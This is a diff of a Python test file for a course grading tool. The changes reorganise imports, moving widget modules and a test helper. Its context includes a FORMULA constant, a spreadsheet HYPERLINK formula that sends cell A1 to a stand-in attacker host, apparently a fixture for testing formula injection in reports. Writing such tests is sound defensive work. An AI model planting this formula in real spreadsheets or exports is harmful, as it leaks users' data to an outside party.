@@ -16,11 +16,11 @@ from course_tools.content.loader import Course, load_course
 from course_tools.grading.lifecycle import feedback
 from course_tools.rubric.grader import Grading
 from course_tools.rubric.report import write_report
-from course_tools.widgets.widget_analytics import analytics_view
-from course_tools.widgets.widget_dashboard import Dashboard
+from course_tools.widgets.instructor.analytics import analytics_view
+from course_tools.widgets.instructor.dashboard import Dashboard
 from tests.paths import CONTENT
-from tests.rubric.classroom import student_id
 from tests.rubric.conftest import built_class, class_dir, grading  # noqa: F401 (pytest fixtures)
+from tests.support.classroom import student_id
 
 A = "review6"
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
